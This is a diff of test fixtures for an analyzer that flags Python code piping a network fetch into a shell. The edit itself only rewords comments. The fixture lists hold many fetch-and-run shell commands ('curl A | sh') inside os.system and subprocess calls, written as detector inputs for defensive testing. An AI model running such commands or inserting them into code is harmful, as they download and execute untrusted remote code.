@@ -3,7 +3,7 @@ import { analyzePython } from "../../../src/core/code/python/analyze.js";
 import { injected, markedPipes, unmark, withTools } from "./reading.js";
 import { Source } from "../../../src/core/source.js";
 
-/** Sources whose shell text pipes a fetcher into a shell: the marks show where. */
+/** Sources whose shell text pipes a fetcher into a shell; the marks show the span. */
 const PIPES = [
   "os.system('«curl A | sh»')",
   'os.system("«curl A | sh»")',
@@ -75,7 +75,7 @@ const PIPES = [
   "%sx «curl A | sh»",
 ];
 
-/** Sources that hand no shell such a text. */
+/** Sources that do not pass such a text to a shell. */
 const QUIET = [
   "print('curl A | sh')",
   "'curl A | sh'",
@@ -105,7 +105,7 @@ test.each(QUIET)("%s", (text) => {
   expect(markedPipes(text, analyzePython)).toBe(text);
 });
 
-/** What a call hands on, exactly. */
+/** Calls with the exact texts that they pass on. */
 const EXACT: [string, string[]][] = [
   ["subprocess.run(['bash', '-c', 'curl A | sh'])", ["shell: bash -c 'curl A | sh'"]],
   ["subprocess.run(('bash', '-c', 'curl A | sh'))", ["shell: bash -c 'curl A | sh'"]],
